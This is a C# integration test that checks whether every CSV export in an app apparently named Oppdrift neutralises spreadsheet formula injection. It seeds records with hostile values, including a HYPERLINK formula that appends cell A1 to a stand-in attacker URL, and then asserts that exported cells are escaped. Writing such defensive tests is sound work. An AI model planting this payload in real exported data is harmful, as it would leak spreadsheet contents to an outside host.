using System.Net;
using System.Text;
using Microsoft.AspNetCore.Http;
using Microsoft.AspNetCore.Routing;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;
using Oppdrift.Access;
using Oppdrift.Data;
using Oppdrift.Processes;
using Oppdrift.Shared;
using Oppdrift.Surveys;
using Oppdrift.Tests.Infrastructure;
using Oppdrift.Tests.Processes;
using Oppdrift.Tests.Usage;

namespace Oppdrift.Tests.Web;

/// <summary>
/// CSV injection: every CSV download the app maps is found from its endpoints and fed text that a spreadsheet would run as a
/// formula; what comes back must be neutralised. A new CSV endpoint fails the test until it is added here.
/// </summary>
public sealed class CsvInjectionTests
{
    /// <summary>CSV files a program reads rather than a person: written exactly, with the reason in MigrationCsv.Write.</summary>
    private static readonly string[] ReadByAProgram = ["/migration/shares/{id:int}/spmt.csv", "/migration/agencies/{code}/spmt.csv", "/organisation/setup.csv"];

    private const string Formula = "=HYPERLINK(\"https://angriper.example/\"&A1;\"Klikk\")";

    [Theory]
    [MemberData(nameof(Databases.Both), MemberType = typeof(Databases))]
    public async Task Every_csv_export_neutralises_text_that_would_start_a_formula(DatabaseKind kind)
    {
        await using var app = await RunningApp.StartAsync(kind, demoPeople: 300);
        await using (var db = app.Database.CreateContext())
        {
            var agencies = await db.Agencies.ToListAsync();
            await UsageSeed.FiguresAsync(db, [.. agencies.Select(a => (a.Id, 40))], UsageSeed.LastDay.AddDays(-13), UsageSeed.LastDay);
            var sye = agencies.Single(a => a.Code == "SYE");
            sye.Name = Formula;
            agencies.Single(a => a.Code == "BNO").Name = "+47 22 00 00 00";
            agencies.First(a => a.Code != "SYE" && a.Code != "BNO").Name = "@SUM(1+1)";
            await db.SaveChangesAsync();
        }
        int process, survey;
        await using (var scope = app.App.Services.CreateAsyncScope())
        {
            var services = scope.ServiceProvider;
            var db = services.GetRequiredService<OppdriftDb>();
            var sye = await db.Agencies.Where(a => a.Code == "SYE").Select(a => a.Id).SingleAsync();
            var saved = await services.GetRequiredService<ProcessEditor>().SaveAsync(null, ProcessServices.Input(sye) with { Name = "-2+3 saker" }, ProcessUsers.Central, default);
            Assert.True(saved.Succeeded, saved.Error);
            process = saved.Value!.Id;
            var designer = services.GetRequiredService<SurveyDesigner>();
            var created = await designer.CreateAsync("Digital puls", null, SurveyLibrary.PulseKeys, 3, "test", default);
            survey = created.Value!.Id;
            var now = TimeProvider.System.GetUtcNow().UtcDateTime;
            await designer.AddRoundAsync(survey, Formula, RoundKind.Pulse, now.AddHours(-1), now.AddDays(14), "test", default);
            await db.SaveChangesAsync();
        }

        var routes = app.App.Services.GetServices<EndpointDataSource>().SelectMany(s => s.Endpoints).OfType<RouteEndpoint>()
            .Where(e => e.Metadata.GetMetadata<HttpMethodMetadata>()?.HttpMethods.Contains(HttpMethods.Get) == true)
            .Select(e => "/" + e.RoutePattern.RawText!.TrimStart('/'))
            .Where(r => r.EndsWith(".csv", StringComparison.OrdinalIgnoreCase))
            .Distinct().Order(StringComparer.Ordinal).ToList();
        var downloads = new Dictionary<string, string[]>
        {
            ["/usage/export.csv"] = ["/usage/export.csv?view=overview&window=7", "/usage/export.csv?view=agency&agency=SYE&from=2026-11-11&to=2026-11-24",
                "/usage/export.csv?view=workload&workload=teams&window=7"],
            ["/processes/export.csv"] = ["/processes/export.csv"],
            ["/surveys/{id:int}/results.csv"] = [$"/surveys/{survey}/results.csv"],
        };
        var uncovered = routes.Except(downloads.Keys).Except(ReadByAProgram).ToList();
        Assert.True(uncovered.Count == 0, "CSV exports the injection test does not cover: " + string.Join(", ", uncovered));
        Assert.Equal(ReadByAProgram.Order(StringComparer.Ordinal), routes.Intersect(ReadByAProgram).Order(StringComparer.Ordinal));

        using var client = await app.SignInAsync(Roles.ChangeLeader);
        foreach (var url in downloads.Values.SelectMany(u => u))
        {
            using var response = await client.GetAsync(url);
            Assert.True(response.StatusCode == HttpStatusCode.OK, $"{url}: {(int)response.StatusCode}");
            var csv = Encoding.UTF8.GetString(await response.Content.ReadAsByteArrayAsync());
            using var reader = new CsvReader(new MemoryStream(Encoding.UTF8.GetBytes(csv)), "export.csv", ';');
            var cells = new List<string>();
            while (reader.Read() is { } record)
            {
                cells.AddRange(record.Fields);
            }
            if (!url.StartsWith("/usage", StringComparison.Ordinal))
            {
                // The process's owning agency and the survey round's name are hostile text.
                Assert.Contains(cells, c => c.StartsWith("'=HYPERLINK", StringComparison.Ordinal));
            }
            if (url.StartsWith("/processes", StringComparison.Ordinal))
            {
                Assert.Contains("'-2+3 saker", cells);
            }
            if (url.StartsWith("/usage", StringComparison.Ordinal) && !url.Contains("view=agency", StringComparison.Ordinal))
            {
                // The tables name every agency: the hostile names are there, neutralised.
                Assert.Contains(cells, c => c.StartsWith("'=HYPERLINK", StringComparison.Ordinal));
                Assert.Contains("'+47 22 00 00 00", cells);
                Assert.Contains("'@SUM(1+1)", cells);
            }
            Assert.DoesNotContain(cells, c => c.Length > 0 && "=+@\t\r".Contains(c[0], StringComparison.Ordinal));
            // A minus is neutralised in text; a negative number stays a number.
            Assert.DoesNotContain(cells, c => c.StartsWith('-') && !double.TryParse(c.Replace(',', '.'), System.Globalization.CultureInfo.InvariantCulture, out _));
        }
    }
}
